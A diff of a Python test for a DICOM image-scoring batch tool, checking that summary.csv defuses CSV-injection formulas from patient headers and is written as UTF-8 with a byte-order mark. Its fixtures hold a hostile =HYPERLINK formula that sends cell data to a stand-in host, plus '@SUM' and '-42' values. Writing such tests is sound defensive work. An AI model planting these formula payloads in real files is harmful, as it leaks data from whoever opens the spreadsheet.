@@ -564,7 +564,8 @@ def test_a_multi_frame_image_is_scored_on_its_first_frame_and_every_output_says_
     assert run_batch([box], BatchOptions(out=out, gradcam="none"), model=model).reused == 2
 
 
-def test_header_text_a_spreadsheet_would_run_is_written_as_text_in_the_csv(tmp_path, chest_pixels, model):
+def test_header_text_a_spreadsheet_would_run_is_written_as_text_in_the_csv_excel_reads_as_utf8(tmp_path, chest_pixels,
+                                                                                                model):
     """A PatientID or Accession Number of =HYPERLINK(...) from a sender's header must not become a formula when
     summary.csv is opened in Excel or LibreOffice (CSV injection): the cell gets an apostrophe before it. The JSON,
     for programs, keeps the values as read."""
@@ -572,11 +573,14 @@ def test_header_text_a_spreadsheet_would_run_is_written_as_text_in_the_csv(tmp_p
     box.mkdir()
     hostile = '=HYPERLINK("http://example.invalid/?"&A1,"open")'
     save(make_dicom(chest_pixels, seed="formula", patient_id=hostile, AccessionNumber="@SUM(1+1)"), box / "a.dcm")
-    save(make_dicom(chest_pixels, seed="minus", patient_id="-42"), box / "b.dcm")
+    save(make_dicom(chest_pixels, seed="minus", patient_id="-42", patient_name="Müller^Jürgen=山田^太郎",
+                    SpecificCharacterSet="ISO_IR 192"), box / "b.dcm")
     run_batch([box], BatchOptions(out=out, gradcam="none"), model=model)
-    with open(out / "summary.csv", newline="") as handle:
+    # UTF-8 with a byte-order mark: without one Excel reads the file in the system's code page (MÃ¼ller)
+    assert (out / "summary.csv").read_bytes().startswith(b"\xef\xbb\xbfrank,kind,")
+    with open(out / "summary.csv", newline="", encoding="utf-8-sig") as handle:
         rows = {r["patient_id"]: r for r in csv.DictReader(handle) if r["kind"] == "study"}
-    assert set(rows) == {"'" + hostile, "'-42"}
+    assert set(rows) == {"'" + hostile, "'-42"} and rows["'-42"]["patient_name"] == "Müller^Jürgen=山田^太郎"
     assert rows["'" + hostile]["accession"] == "'@SUM(1+1)"
     assert float(rows["'-42"]["score"]) >= 0            # numbers stay numbers
     data = json.loads((out / "summary.json").read_text())
